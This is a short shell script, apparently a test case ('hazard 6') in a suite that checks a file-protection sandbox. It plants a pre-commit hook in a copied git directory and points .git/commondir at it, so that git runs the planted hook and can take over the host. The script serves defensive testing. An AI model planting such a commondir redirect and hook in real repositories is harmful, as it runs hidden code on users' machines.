#!/bin/sh
# files.protect, hazard 6: a commondir file that sends git to the command's own hooks and configuration.
# plant: mounts.protect+observer+observer.notes
# fallback: files.protect
act() {
	mkdir -p common/hooks
	cp -R .git/config .git/objects .git/refs .git/HEAD common
	payload >common/hooks/pre-commit
	chmod 755 common/hooks/pre-commit
	echo ../common >.git/commondir
}

happened() {
	host_is_owned_by_git
}

. "$VERIFY/attempt.sh"
